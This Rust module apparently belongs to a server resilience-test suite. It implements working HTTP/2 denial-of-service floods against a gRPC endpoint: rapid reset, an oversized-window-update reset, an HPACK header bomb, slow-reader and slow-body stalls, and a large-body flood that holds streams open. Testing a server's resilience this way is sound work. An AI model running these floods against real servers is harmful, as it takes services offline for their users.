//! Floods of calls.

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::{Attacker, BATCH, GET, LAST, LIST, Wire, streams};
use crate::resilience::floods::frame::{
    DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, RST_STREAM, WINDOW_UPDATE,
    indexed, push, request, settings,
};

pub(in super::super) async fn rapid_reset(
    attacker: Arc<Attacker>,
    wire: Wire,
) -> std::io::Result<()> {
    let cancel = 8_u32.to_be_bytes();
    abandoned(attacker, wire, |to, stream| {
        push(to, RST_STREAM, 0, stream, &cancel);
    })
    .await
}

pub(in super::super) async fn made_you_reset(
    attacker: Arc<Attacker>,
    wire: Wire,
) -> std::io::Result<()> {
    // More room than there can be: an error of the stream.
    let most = LAST.to_be_bytes();
    abandoned(attacker, wire, |to, stream| {
        push(to, WINDOW_UPDATE, 0, stream, &most);
    })
    .await
}

/// Calls, each with a frame right after it that ends it.
async fn abandoned(
    attacker: Arc<Attacker>,
    wire: Wire,
    end: impl Fn(&mut Vec<u8>, u32),
) -> std::io::Result<()> {
    let mut write = wire.drained();
    let call = request(GET);
    let mut streams = streams();
    while !attacker.is_over() {
        let mut batch = Vec::new();
        for stream in streams.by_ref().take(BATCH as usize) {
            push(&mut batch, HEADERS, END_HEADERS, stream, &call);
            end(&mut batch, stream);
        }
        write.write_all(&batch).await?;
        attacker.count(2 * BATCH);
    }
    Ok(())
}

pub(in super::super) async fn header_bomb(
    attacker: Arc<Attacker>,
    wire: Wire,
) -> std::io::Result<()> {
    let mut write = wire.drained();
    let mut streams = streams();
    let mut batch = Vec::new();
    let mut first = request(GET);
    // All of the table of 4096 bytes (RFC 7541, 4.1).
    indexed(&mut first, "x", &"a".repeat(4_000));
    for stream in streams.by_ref().take(1) {
        push(
            &mut batch,
            HEADERS,
            END_HEADERS | END_STREAM,
            stream,
            &first,
        );
    }
    let mut bomb = request(GET);
    // The newest entry of the dynamic table.
    bomb.extend([0xBE; 16_000]);
    while !attacker.is_over() {
        for stream in streams.by_ref().take(10) {
            push(&mut batch, HEADERS, END_HEADERS | END_STREAM, stream, &bomb);
        }
        write.write_all(&batch).await?;
        attacker.count(10);
        batch.clear();
    }
    Ok(())
}

pub(in super::super) async fn slow_reader(
    attacker: Arc<Attacker>,
    wire: Wire,
) -> std::io::Result<()> {
    let Wire {
        mut read,
        mut write,
    } = wire;
    let mut batch = Vec::new();
    settings(&mut batch, &[(INITIAL_WINDOW_SIZE, 0)]);
    let call = request(LIST);
    for stream in streams().take(BATCH as usize) {
        push(&mut batch, HEADERS, END_HEADERS, stream, &call);
        // A message of no bytes.
        push(&mut batch, DATA, END_STREAM, stream, &[0; 5]);
    }
    write.write_all(&batch).await?;
    attacker.count(2 * BATCH);
    // A little at a time, so that the connection is alive.
    let mut little = [0; 16];
    while !attacker.is_over() {
        if read.read(&mut little).await? == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

pub(in super::super) async fn slow_body(
    attacker: Arc<Attacker>,
    wire: Wire,
) -> std::io::Result<()> {
    let mut write = wire.drained();
    let mut batch = Vec::new();
    let call = request(GET);
    // Says that a megabyte is to come.
    let begin = [0, 0, 16, 0, 0];
    for stream in streams().take(BATCH as usize) {
        push(&mut batch, HEADERS, END_HEADERS, stream, &call);
        push(&mut batch, DATA, 0, stream, &begin);
    }
    write.write_all(&batch).await?;
    attacker.count(2 * BATCH);
    while !attacker.is_over() {
        let mut byte = Vec::new();
        for stream in streams().take(BATCH as usize) {
            push(&mut byte, DATA, 0, stream, &[1]);
        }
        write.write_all(&byte).await?;
        attacker.count(BATCH);
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

/// As much as is taken of one message by default.
const LARGEST: u32 = 4 << 20;

/// Keeps to flow control, which the server grants as it takes what it is sent.
pub(in super::super) async fn large_body(attacker: Arc<Attacker>) {
    let mut message = vec![0];
    message.extend(LARGEST.to_be_bytes());
    message.resize(LARGEST as usize + 4, 1);
    let message = Bytes::from(message);
    while !attacker.is_over() {
        let Some(stream) = attacker.open().await else {
            continue;
        };
        let Ok((mut calls, connection)) = h2::client::handshake(stream).await else {
            continue;
        };
        let mut held = Vec::new();
        let calling = async {
            while let Ok(ready) = calls.clone().ready().await {
                calls = ready;
                let call = http::Request::post(format!("http://localhost{GET}"))
                    .header("content-type", "application/grpc")
                    .header("te", "trailers")
                    .body(());
                let Ok(Ok((answer, mut body))) = call.map(|it| calls.send_request(it, false))
                else {
                    break;
                };
                attacker.count(1);
                if body.send_data(message.clone(), false).is_err() {
                    break;
                }
                held.push((answer, body));
                if held.len() == 16 {
                    std::future::pending::<()>().await;
                }
            }
        };
        tokio::select! {
            _ = connection => {}
            () = calling => {}
            () = tokio::time::sleep_until(attacker.until.into()) => {}
        }
    }
}
